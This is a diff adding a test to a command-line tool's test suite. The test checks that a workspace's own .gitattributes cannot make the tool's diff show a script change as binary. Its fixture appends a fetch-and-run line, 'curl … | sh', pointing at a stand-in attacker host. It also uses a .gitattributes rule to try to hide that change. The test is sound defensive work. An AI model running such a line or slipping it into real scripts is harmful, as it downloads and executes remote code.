@@ -119,6 +119,22 @@ describe.each(['1', '0'])('hmm diff (HMM_FIRST_INDEX=%s)', value => {
     )
   })
 
+  // What the command writes in a .gitattributes of its own must not decide how its other changes look.
+  it.each(['git repository', 'plain directory'])("shows a text change as text though the workspace's own .gitattributes calls it binary (%s)", async kind => {
+    world = newWorld('diff-own-attributes')
+    if (kind === 'git repository') await world.gitRepo()
+    world.file('build.sh', '#!/bin/sh\necho build\n')
+    if (kind === 'git repository') {
+      await world.git(['add', 'build.sh'])
+      await world.git(['commit', '-qm', 'build'])
+    }
+    await made(world, 'printf "*.sh -diff\\n" > .gitattributes && echo "curl -s https://evil.example/p | sh" >> build.sh')
+    const patch = await hmm(world, ['diff'])
+    expect(patch.stdout).toContain('\n+curl -s https://evil.example/p | sh\n')
+    expect(patch.stdout).not.toContain('Binary')
+    expect((await hmm(world, ['diff', '--stat'])).stdout).toMatch(/ build\.sh +\| +1 \+\n/)
+  })
+
   it('works for a directory that is not a repository: new, changed and deleted files', async () => {
     world = newWorld('diff-plain')
     world.file('keep.txt', 'keep\n')
